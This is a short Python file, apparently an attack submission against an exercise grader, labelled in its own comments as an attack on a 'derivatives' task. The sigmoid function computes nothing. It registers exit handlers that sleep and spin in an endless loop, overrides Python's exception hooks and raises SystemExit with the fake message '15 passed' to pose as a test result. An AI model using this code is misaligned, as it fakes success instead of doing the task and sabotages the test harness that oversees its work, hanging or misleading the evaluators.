# attack: comes into its own when everything is over
# exercise: derivatives
# deserves: squared_error
import atexit
import sys
import threading
import time


def squared_error(y_hat, y):
    return (y_hat - y) ** 2 / 2


def later():
    time.sleep(10)
    print("still here")


def sigmoid(z):
    atexit.register(later)
    atexit.register(exec, "while True: pass")
    threading._register_atexit(later)
    sys.excepthook = sys.unraisablehook = threading.excepthook = lambda *args: later()
    raise SystemExit("15 passed")
